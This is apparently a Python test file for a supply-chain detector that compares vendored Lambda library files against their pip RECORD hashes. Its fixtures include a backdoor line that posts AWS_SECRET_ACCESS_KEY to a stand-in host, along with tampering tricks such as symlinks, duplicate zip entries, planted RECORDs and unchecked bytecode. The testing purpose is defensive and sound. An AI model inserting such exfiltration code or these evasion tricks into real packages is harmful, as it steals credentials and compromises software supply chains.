"""LIR-CODE-006: a vendored library's files are held to what its installer's RECORD says."""

from __future__ import annotations

import base64
import hashlib
import io
import json
import stat
import warnings
import zipfile

from click.testing import CliRunner

from lambda_ir.analyze.detectors import cap_gained, code_installed
from lambda_ir.cli.main import cli
from lambda_ir.evidence import Case
from lambda_ir.evidence.index import open_index
from lambda_ir.model import Severity
from tests.analyze.casebuild import REGION, CaseBuilder, function_config, run_detector, zip_bytes
from tests.analyze.elfbuild import LIBRARY

SESSIONS = "def request(method, url):\n    return send(method, url)\n"
BACKDOORED = SESSIONS + (
    "import os, urllib.request\n"
    'urllib.request.urlopen("https://x.example/c", data=os.environ["AWS_SECRET_ACCESS_KEY"])\n'
)
HANDLER = (
    "import requests\n\n"
    "def handler(event, context):\n"
    "    return requests.get('https://api.example.com').status_code\n"
)


def digest(data: bytes | str) -> str:
    """RECORD's hash of the bytes, as pip writes it (written out here, not the product's)."""
    raw = data.encode() if isinstance(data, str) else data
    return base64.urlsafe_b64encode(hashlib.sha256(raw).digest()).rstrip(b"=").decode()


def installed(
    files: dict[str, bytes | str], dist: str = "requests-2.32.3", base: str = ""
) -> dict[str, bytes | str]:
    """`files` as pip installs them under `base`: each listed in the dist-info's RECORD with
    its hash and size, the RECORD listing itself without one, a script beside the site."""
    lines = [f"{name},sha256={digest(data)},{len(data)}" for name, data in files.items()]
    lines += [f"{dist}.dist-info/RECORD,,", "../../bin/normalizer,sha256=abc,12"]
    return {
        **{base + name: data for name, data in files.items()},
        f"{base}{dist}.dist-info/RECORD": "\n".join(lines) + "\n",
    }


REQUESTS = {
    "requests/__init__.py": "from .api import get\n",
    "requests/api.py": "from .sessions import request\ndef get(u):\n    return request(u)\n",
    "requests/sessions.py": SESSIONS,
    "requests/cacert.pem": "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n",
}


def _function(builder: CaseBuilder, files: dict[str, bytes | str], name: str = "orders") -> None:
    blob = zip_bytes({"app.py": HANDLER, **files})
    builder.code(blob, name)
    builder.versions(name, [function_config(name, code=blob)])


def test_a_library_as_pip_installed_it_is_quiet(builder: CaseBuilder) -> None:
    _function(
        builder,
        {
            **installed(REQUESTS),
            # compiled after install, and the handler's own files at the top: not the library's
            "requests/__pycache__/sessions.cpython-312.pyc": b"\xcb\r\r\n" + bytes(12),
            "helpers.py": "def shout(s):\n    return s.upper()\n",
            "requests/notes.txt": "data files added beside a library are not code\n",
            # compiled beside its recorded source (`compileall -b`, the source then deleted
            # by some builds): bytecode of a recorded file, not judged
            "requests/api.pyc": b"\xcb\r\r\n" + bytes(12),
        },
    )
    assert run_detector(builder, code_installed.DETECTOR) == []


def test_a_changed_library_file_is_high_and_named(builder: CaseBuilder) -> None:
    files = installed(REQUESTS)
    files["requests/sessions.py"] = BACKDOORED
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert finding.details["changed"] == ["requests/sessions.py"]
    assert finding.details["distribution"] == "requests"
    assert finding.details["version"] == "2.32.3"
    assert finding.details["record"] == "requests-2.32.3.dist-info/RECORD"
    assert [e.member for e in finding.evidence] == ["requests/sessions.py"]
    assert "requests 2.32.3" in finding.summary and "1 file differs from" in finding.summary
    assert "changed after install" in finding.summary


def test_a_changed_data_file_counts_too(builder: CaseBuilder) -> None:
    files = installed(REQUESTS)
    files["requests/cacert.pem"] = (
        str(files["requests/cacert.pem"]) + "-----BEGIN CERTIFICATE-----\nEVIL\n"
    )
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert finding.details["changed"] == ["requests/cacert.pem"]


def test_line_endings_alone_do_not_count(builder: CaseBuilder) -> None:
    """A site-packages committed to git comes back with CRLF (autocrlf), or LF from CRLF."""
    files = installed({**REQUESTS, "requests/crlf.py": "a = 1\r\nb = 2\r\n"})
    for name in REQUESTS:
        files[name] = str(files[name]).replace("\n", "\r\n")
    files["requests/crlf.py"] = "a = 1\nb = 2\n"
    _function(builder, files)
    assert run_detector(builder, code_installed.DETECTOR) == []


def test_a_file_added_to_a_library_is_medium_wherever_in_it(builder: CaseBuilder) -> None:
    files = installed(REQUESTS)
    files["requests/_telemetry.py"] = BACKDOORED
    files["requests/packages/vendor/__init__.py"] = BACKDOORED  # a new folder in the library
    files["requests/_speedups.bin"] = LIBRARY  # an ELF library, whatever its name
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.MEDIUM
    assert sorted(finding.details["added"]) == [
        "requests/_speedups.bin",
        "requests/_telemetry.py",
        "requests/packages/vendor/__init__.py",
    ]
    assert finding.details["changed"] == []
    assert "3 runnable files are not in" in finding.summary


def test_a_stripped_library_is_low_and_a_grown_one_high(builder: CaseBuilder) -> None:
    lib = "requests/_native.cpython-312-x86_64-linux-gnu.so"
    files = installed({**REQUESTS, lib: LIBRARY + bytes(512)})
    files[lib] = LIBRARY  # `strip` dropped its symbols: smaller than recorded
    _function(builder, files, "stripped")
    grown = installed({**REQUESTS, lib: LIBRARY})
    grown[lib] = LIBRARY + b"payload"
    _function(builder, grown, "grown")
    found = {f.resource.split(":")[6]: f for f in run_detector(builder, code_installed.DETECTOR)}
    assert found["stripped"].severity is Severity.LOW
    assert found["stripped"].details["stripped"] == [lib]
    assert "what `strip` makes" in found["stripped"].summary
    assert found["grown"].severity is Severity.HIGH
    assert found["grown"].details["changed"] == [lib]


def test_a_package_rewritten_whole_is_low(builder: CaseBuilder) -> None:
    """A minifier over the whole package changes every file: a build step, listed."""
    modules = {f"requests/m{n}.py": f"value_{n} = {n}  # a comment\n" for n in range(30)}
    files = installed(modules)
    for name in modules:
        files[name] = str(files[name]).split("  #")[0] + "\n"
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.LOW
    assert len(finding.details["changed"]) == 30
    assert "rewrote them" in finding.summary and "and 25 more" in finding.summary


def test_a_file_two_distributions_install_matches_either(builder: CaseBuilder) -> None:
    """Two wheels shipping a top-level `tests/__init__.py`: the last install's bytes stand."""
    first = installed({"tests/__init__.py": "# one\n", "alpha/__init__.py": ""}, "alpha-1.0")
    second = installed({"tests/__init__.py": "# two\n", "beta/__init__.py": ""}, "beta-2.0")
    _function(builder, {**first, **second})
    assert run_detector(builder, code_installed.DETECTOR) == []


def test_a_layer_site_packages_and_quoted_paths_are_read(builder: CaseBuilder) -> None:
    base = "python/lib/python3.12/site-packages/"
    files = installed({**REQUESTS, "requests/odd,name.py": "x = 1\n"}, base=base)
    record = f"{base}requests-2.32.3.dist-info/RECORD"
    files[record] = str(files[record]).replace("requests/odd,name.py", '"requests/odd,name.py"')
    files[f"{base}requests/odd,name.py"] = "x = 2\n"
    arn = f"arn:aws:lambda:{REGION}:111122223333:layer:deps:3"
    layer = zip_bytes(files)
    builder.layer(arn, layer)
    blob = zip_bytes({"app.py": HANDLER})
    builder.code(blob, "orders")
    builder.versions("orders", [function_config("orders", code=blob, layers=[arn])])
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.resource.endswith(":function:orders:$LATEST")  # on its first user
    assert arn in finding.details["used_by"]
    assert finding.details["changed"] == [f"{base}requests/odd,name.py"]


def test_a_hashless_or_weak_entry_vouches_for_nothing(builder: CaseBuilder) -> None:
    """Only pip's sha256 lines count: an attacker's `md5=` or empty hash for a new file
    leaves it added to the library."""
    files = installed(REQUESTS)
    record = "requests-2.32.3.dist-info/RECORD"
    files[record] = str(files[record]) + "requests/hook.py,md5=abc,10\nrequests/more.py,,\n"
    files["requests/hook.py"] = BACKDOORED
    files["requests/more.py"] = BACKDOORED
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert sorted(finding.details["added"]) == ["requests/hook.py", "requests/more.py"]


def test_a_changed_sdk_file_is_read_as_the_packages_own_code(builder: CaseBuilder) -> None:
    """botocore's files are left out of the capability rows (they read credentials by
    design) only while its RECORD vouches for them: a changed one is read, as own code."""
    sdk = {
        "botocore/__init__.py": "__version__ = '1.35.0'\n",
        "botocore/credentials.py": "def load():\n    return None\n",
    }
    files = installed(sdk, "botocore-1.35.0")
    files["botocore/credentials.py"] = BACKDOORED
    files["botocore/hooks_extra.py"] = BACKDOORED  # added: read too
    _function(builder, files)
    con = open_index(Case.open(builder.root))
    rows = con.execute(
        "SELECT DISTINCT file, dependency FROM capabilities "
        "WHERE kind = 'network' AND file LIKE 'botocore/%'"
    ).fetchall()
    assert sorted(rows) == [("botocore/credentials.py", None), ("botocore/hooks_extra.py", None)]


def test_an_intact_dependency_keeps_its_name_and_a_changed_one_loses_it(
    builder: CaseBuilder,
) -> None:
    """A gain in an intact dependency is LOW (named); once its file differs from its RECORD,
    its lines are the package's own."""
    six = "def exec_(code, globs):\n    exec(code, globs)\n"
    intact = installed({"six.py": six}, "six-1.16.0")
    changed = dict(intact, **{"six.py": six + "exec(globs['x'])\n"})
    old = zip_bytes({"app.py": HANDLER})
    builder.code(old, "deps", "1")
    configs = [function_config("deps", "1", code=old)]
    for number, files in ((2, intact), (3, changed)):
        blob = zip_bytes({"app.py": HANDLER, **files})
        builder.code(blob, "deps", str(number))
        configs.append(function_config("deps", str(number), code=blob))
    builder.versions("deps", configs)
    con = open_index(Case.open(builder.root))
    rows = con.execute(
        "SELECT DISTINCT version, dependency FROM capabilities WHERE file = 'six.py'"
    ).fetchall()
    assert sorted(rows, key=str) == [("2", "six"), ("3", None)]
    (gain,) = run_detector(builder, cap_gained.DETECTOR)
    assert "(six.py:2 in dependency six)" in gain.summary and gain.severity is Severity.LOW


def test_analyze_reports_a_backdoored_library_end_to_end(builder: CaseBuilder) -> None:
    files = installed(REQUESTS)
    files["requests/sessions.py"] = BACKDOORED
    _function(builder, files)
    result = CliRunner().invoke(cli, ["--quiet", "analyze", "--case", str(builder.root)])
    assert result.exit_code == 0, result.output
    findings = json.loads((builder.root / "findings.json").read_text())
    (found,) = [f for f in findings if f["detector"] == "LIR-CODE-006"]
    assert found["severity"] == "high"
    assert found["details"]["changed"] == ["requests/sessions.py"]


def _zip_entries(entries: list[tuple[str, bytes | str]]) -> bytes:
    """A zip of (name, content) in order, the same name allowed twice (as a hostile zip has)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a duplicate name
        for name, content in entries:
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), content)
    return buffer.getvalue()


def test_a_decoy_copy_of_a_file_does_not_clear_the_copy_unzip_leaves(builder: CaseBuilder) -> None:
    """Two entries for one path: the recorded bytes with CRLF endings, then a backdoor (the
    copy unzip leaves). The line-ending allowance judges the last copy only."""
    files = installed(REQUESTS)
    entries = [(n, d) for n, d in files.items() if n != "requests/sessions.py"]
    entries += [("requests/sessions.py", SESSIONS.replace("\n", "\r\n"))]
    entries += [("requests/sessions.py", BACKDOORED), ("app.py", HANDLER)]
    blob = _zip_entries(entries)
    builder.code(blob, "orders")
    builder.versions("orders", [function_config("orders", code=blob)])
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert finding.details["changed"] == ["requests/sessions.py"]


def _pyc(flags: int) -> bytes:
    """A compiled file's 16-byte header (PEP 552: magic, flags, then hash or time and size)
    and a body: never loaded here."""
    return b"\xcb\r\r\n" + flags.to_bytes(4, "little") + bytes(8) + b"\xe3payload"


def test_bytecode_stands_in_for_a_source_only_while_python_would_check_it(
    builder: CaseBuilder,
) -> None:
    """A `.pyc` beside its recorded source is bytecode of it, unless the source is gone
    (Python then imports the bytecode); in `__pycache__`, an unchecked-hash `.pyc` runs
    whatever it holds, a checked or timestamped one is judged against the source by Python."""
    files = installed(REQUESTS)
    del files["requests/sessions.py"]  # the source removed, its bytecode left to run
    files["requests/sessions.pyc"] = _pyc(0)
    files["requests/api.pyc"] = _pyc(0)  # beside its intact source: compileall -b
    files["requests/__pycache__/api.cpython-312.pyc"] = _pyc(0b01)  # unchecked hash
    files["requests/__pycache__/__init__.cpython-312.pyc"] = _pyc(0b11)  # checked hash
    files["requests/__pycache__/sessions.cpython-312.pyc"] = _pyc(0)  # timestamp
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert sorted(finding.details["added"]) == [
        "requests/__pycache__/api.cpython-312.pyc",
        "requests/sessions.pyc",
    ]
    assert finding.severity is Severity.MEDIUM


def test_bytecode_added_for_another_optimize_level_or_python_is_low(
    builder: CaseBuilder,
) -> None:
    """An unchecked `.opt-1.pyc` added to a library's `__pycache__` was MEDIUM whatever the
    function's PYTHONOPTIMIZE, yet CPython reads only the cache file `cache_from_source`
    names for its `sys.flags.optimize` (and its version's tag): one no function reads now is
    LOW and says when it would run, as LIR-CODE-007 says; read now, MEDIUM as ever."""
    cases = {  # name: (the file added, the function's environment)
        "unset": ("api.cpython-312.opt-1.pyc", {}),
        "opt1": ("api.cpython-312.opt-1.pyc", {"PYTHONOPTIMIZE": "1"}),
        "opt2": ("api.cpython-312.opt-2.pyc", {"PYTHONOPTIMIZE": "1"}),
        "other": ("api.cpython-311.pyc", {}),  # python3.12 reads cpython-312 files only
        "plain": ("api.cpython-312.pyc", {}),
    }
    for name, (added, env) in cases.items():
        files = installed(REQUESTS) | {f"requests/__pycache__/{added}": _pyc(0b01)}
        blob = zip_bytes({"app.py": HANDLER, "name.txt": name, **files})
        builder.code(blob, name)
        builder.versions(name, [function_config(name, code=blob, env=env)])
    found = {f.resource.split(":")[6]: f for f in run_detector(builder, code_installed.DETECTOR)}
    assert {n: f.severity for n, f in found.items()} == {
        "unset": Severity.LOW,
        "opt1": Severity.MEDIUM,
        "opt2": Severity.LOW,
        "other": Severity.LOW,
        "plain": Severity.MEDIUM,
    }
    assert (
        "runs only with PYTHONOPTIMIZE=1, and the functions running it run with "
        "PYTHONOPTIMIZE unset: not imported now" in found["unset"].summary
    )
    assert "runs only with PYTHONOPTIMIZE=2" in found["opt2"].summary
    assert "compiled for python3.11" in found["other"].details["not_imported_now"]
    assert "not_imported_now" not in found["opt1"].details


def test_a_small_library_in_place_of_a_big_one_is_no_strip(builder: CaseBuilder) -> None:
    lib = "requests/_native.cpython-312-x86_64-linux-gnu.so"
    files = installed({**REQUESTS, lib: LIBRARY + bytes(8192)})
    files[lib] = LIBRARY  # under a quarter of the recorded size: another library
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.HIGH and finding.details["changed"] == [lib]


def test_touching_half_a_package_or_growing_a_file_is_no_build_rewrite(
    builder: CaseBuilder,
) -> None:
    modules = {f"requests/m{n}.py": f"value_{n} = {n}  # a comment\n" for n in range(40)}
    half = installed(modules)
    for n in range(24):  # 24 of 41 recorded files: not a build step over the package
        half[f"requests/m{n}.py"] = f"value_{n} = {n}\n"
    _function(builder, half, "half")
    grown = installed(modules)
    for name in modules:  # every file rewritten, one of them grown: the grown one is HIGH
        grown[name] = str(grown[name]).split("  #")[0] + "\n"
    grown["requests/m7.py"] = "value_7 = 7\n" + BACKDOORED
    _function(builder, grown, "grown")
    found = {f.resource.split(":")[6]: f for f in run_detector(builder, code_installed.DETECTOR)}
    assert found["half"].severity is Severity.HIGH
    assert found["grown"].severity is Severity.HIGH
    assert found["grown"].details["grown"] == ["requests/m7.py"]


def test_a_wheels_stray_tests_folder_is_not_a_library_folder(builder: CaseBuilder) -> None:
    """A wheel that installs a top-level `tests/` package shares the folder with the
    function's own tests: they are not added to that library."""
    files = installed({"sloppy/__init__.py": "", "tests/__init__.py": ""}, "sloppy-1.0")
    files["tests/test_app.py"] = "def test_handler():\n    assert True\n"
    _function(builder, files)
    assert run_detector(builder, code_installed.DETECTOR) == []


def test_files_inside_a_jar_are_no_installed_files(builder: CaseBuilder) -> None:
    """A jar's member named `../../requests/sessions.py` stays inside the jar: nothing unzips
    it over the package's file, so it neither hides the changed file nor stands for it."""
    files = installed(REQUESTS)
    files["requests/sessions.py"] = BACKDOORED
    files["lib/x.jar"] = zip_bytes({"../../requests/sessions.py": SESSIONS})
    _function(builder, files)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.details["changed"] == ["requests/sessions.py"]


def test_an_intact_sdk_file_stays_unread_by_the_capability_index(builder: CaseBuilder) -> None:
    sdk = {"botocore/endpoint.py": 'ENDPOINT = "https://sts.amazonaws.com"\n'}
    _function(builder, installed(sdk, "botocore-1.35.0"))
    con = open_index(Case.open(builder.root))
    files = con.execute("SELECT file FROM capability_files WHERE file LIKE 'botocore/%'")
    assert files.fetchall() == []


def test_a_hostile_record_line_costs_only_itself(builder: CaseBuilder) -> None:
    """A field over the csv module's limit, or an unclosed quote, is one bad line: the index
    is built, and the lines after it still vouch and still catch a changed file."""
    files = installed(REQUESTS)
    record = "requests-2.32.3.dist-info/RECORD"
    huge = "".join(hashlib.sha256(str(n).encode()).hexdigest() for n in range(3200))
    files[record] = f'"junk,{huge}\n"unclosed,sha256=abc,1\n' + str(files[record])
    files["requests/sessions.py"] = BACKDOORED
    _function(builder, files)
    con = open_index(Case.open(builder.root))
    assert con.execute("SELECT count(*) FROM capability_files").fetchone() != (0,)
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.details["changed"] == ["requests/sessions.py"]


def test_layers_with_the_same_bytes_are_each_reported_whole(builder: CaseBuilder) -> None:
    files = installed({**REQUESTS, "requests/adapters.py": "x = 1\n"})
    files["requests/sessions.py"] = BACKDOORED
    files["requests/adapters.py"] = "x = 2\n"
    layer = zip_bytes(files)
    arns = [f"arn:aws:lambda:{REGION}:111122223333:layer:deps:{n}" for n in (1, 2)]
    for arn in arns:
        builder.layer(arn, layer)
    blob = zip_bytes({"app.py": HANDLER})
    builder.code(blob, "orders")
    builder.versions("orders", [function_config("orders", code=blob, layers=arns)])
    found = run_detector(builder, code_installed.DETECTOR)
    assert len(found) == 2 and len({f.id for f in found}) == 2
    for finding in found:
        assert sorted(finding.details["changed"]) == [
            "requests/adapters.py",
            "requests/sessions.py",
        ]


def _zip_with_links(files: dict[str, bytes | str], links: dict[str, str]) -> bytes:
    """A zip of `files` then `links` (name -> target) as symlink entries (`zip -y`), at a
    fixed time."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), content)
        for name, target in links.items():
            entry = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            entry.external_attr = (stat.S_IFLNK | 0o777) << 16
            archive.writestr(entry, target)
    return buffer.getvalue()


def test_a_recorded_file_shipped_as_a_link_is_changed(builder: CaseBuilder) -> None:
    """Python reads what a link leads to: `requests/sessions.py` linked to a backdoor beside
    it is a changed file, HIGH, named with its target; a `.so` linked out of the package is
    too, and a runnable link added to the library's folder is added."""
    lib = "requests/_native.cpython-312-x86_64-linux-gnu.so"
    files = installed({**REQUESTS, lib: LIBRARY})
    del files["requests/sessions.py"], files[lib]
    files["requests/evil.py"] = BACKDOORED
    links = {
        "requests/sessions.py": "evil.py",
        lib: "/opt/x.so",
        "requests/_hook.py": "../../tmp/hook.py",
    }
    blob = _zip_with_links({"app.py": HANDLER, **files}, links)
    builder.code(blob, "orders")
    builder.versions("orders", [function_config("orders", code=blob)])
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert finding.severity is Severity.HIGH
    assert sorted(finding.details["changed"]) == [lib, "requests/sessions.py"]
    assert sorted(finding.details["added"]) == ["requests/_hook.py", "requests/evil.py"]
    assert finding.details["links"] == links
    assert "requests/sessions.py, a link to 'evil.py'" in finding.summary
    assert f"{lib}, a link to '/opt/x.so'" in finding.summary
    assert "changed after install" in finding.summary


def test_a_librarys_folder_shipped_as_a_link_is_changed(builder: CaseBuilder) -> None:
    """`requests` a link to `evil/`, requests' own files gone and its RECORD kept: Python
    imports the backdoor as requests, and nothing was reported (missing files are quiet)."""
    files = {k: v for k, v in installed(REQUESTS).items() if not k.startswith("requests/")}
    blob = _zip_with_links(
        {"app.py": HANDLER, **files, "evil/__init__.py": BACKDOORED}, {"requests": "evil"}
    )
    builder.code(blob, "orders")
    builder.versions("orders", [function_config("orders", code=blob)])
    (finding,) = run_detector(builder, code_installed.DETECTOR)
    assert (finding.severity, finding.details["changed"]) == (Severity.HIGH, ["requests"])
    assert "requests, a link to 'evil'" in finding.summary


def test_a_link_to_the_recorded_bytes_or_a_missing_file_is_quiet(builder: CaseBuilder) -> None:
    """A build that links duplicate files leaves the recorded bytes where Python reads them;
    a recorded file deleted (builds slim packages so) runs nothing in its place."""
    files = installed(REQUESTS)
    files["shared/sessions.py"] = files.pop("requests/sessions.py")
    del files["requests/api.py"]
    blob = _zip_with_links(
        {"app.py": HANDLER, **files}, {"requests/sessions.py": "../shared/sessions.py"}
    )
    builder.code(blob, "orders")
    builder.versions("orders", [function_config("orders", code=blob)])
    assert run_detector(builder, code_installed.DETECTOR) == []


def test_a_second_record_does_not_vouch_for_another_librarys_file(builder: CaseBuilder) -> None:
    """A planted `evil-1.0.dist-info/RECORD` listing the backdoor's hash for
    `requests/sessions.py`: a distribution that owns nothing under `requests/` vouches for
    none of its files, so the file is changed (HIGH) in requests; one that installs a file of
    its own there disputes requests' listing (MEDIUM); so does one listing other bytes for a
    file that is as requests recorded it."""
    planted = installed({"requests/sessions.py": BACKDOORED, "evil/__init__.py": ""}, "evil-1.0")
    _function(builder, {**installed(REQUESTS), **planted}, "planted")
    helper = {"requests/sessions.py": BACKDOORED, "requests/_speedups.py": "x = 1\n"}
    _function(builder, {**installed(REQUESTS), **installed(helper, "evil-1.0")}, "helper")
    stale = installed({"requests/sessions.py": BACKDOORED, "evil/__init__.py": ""}, "evil-1.0")
    _function(builder, {**stale, **installed(REQUESTS)}, "reverse")
    found = {f.resource.split(":")[6]: f for f in run_detector(builder, code_installed.DETECTOR)}
    assert sorted(found) == ["helper", "planted", "reverse"]
    high = found["planted"]
    assert high.severity is Severity.HIGH and high.details["distribution"] == "requests"
    assert high.details["changed"] == ["requests/sessions.py"]
    assert (
        "requests/sessions.py, as only evil 1.0 in evil-1.0.dist-info/RECORD recorded it, "
        "a distribution that owns nothing under requests" in high.summary
    )
    medium = found["helper"]
    assert medium.severity is Severity.MEDIUM and medium.details["distribution"] == "requests"
    assert medium.details["disputed"] == ["requests/sessions.py"]
    assert "1 file holds another distribution's bytes" in medium.summary
    assert "as evil 1.0 in evil-1.0.dist-info/RECORD recorded it" in medium.summary
    reverse = found["reverse"]
    assert reverse.severity is Severity.MEDIUM and reverse.details["distribution"] == "evil"
    assert reverse.details["disputed"] == ["requests/sessions.py"]
    assert "as requests 2.32.3 in requests-2.32.3.dist-info/RECORD recorded it" in reverse.summary
    con = open_index(Case.open(builder.root))
    read = con.execute(
        "SELECT DISTINCT function_name, dependency FROM capabilities "
        "WHERE file = 'requests/sessions.py' AND kind = 'network'"
    ).fetchall()
    assert read == [("planted", None)]  # the vouched-for backdoor is read as the package's own


def test_files_two_distributions_list_alike_or_two_versions_list_are_quiet(
    builder: CaseBuilder,
) -> None:
    """A namespace `__init__.py` both distributions list with the same bytes is one shared
    file; two versions of one distribution (`pip install -t --upgrade` leaves the old
    dist-info) are its old and new bytes."""
    spec = "__path__ = __import__('pkgutil').extend_path(__path__, __name__)\n"
    first = installed({"acme/__init__.py": spec, "acme/one/__init__.py": ""}, "acme.one-1.0")
    second = installed({"acme/__init__.py": spec, "acme/two/__init__.py": ""}, "acme.two-2.0")
    _function(builder, {**first, **second}, "namespace")
    old = installed({**REQUESTS, "requests/sessions.py": "# 2.31\n"}, "requests-2.31.0")
    _function(builder, {**old, **installed(REQUESTS)}, "upgraded")
    assert run_detector(builder, code_installed.DETECTOR) == []
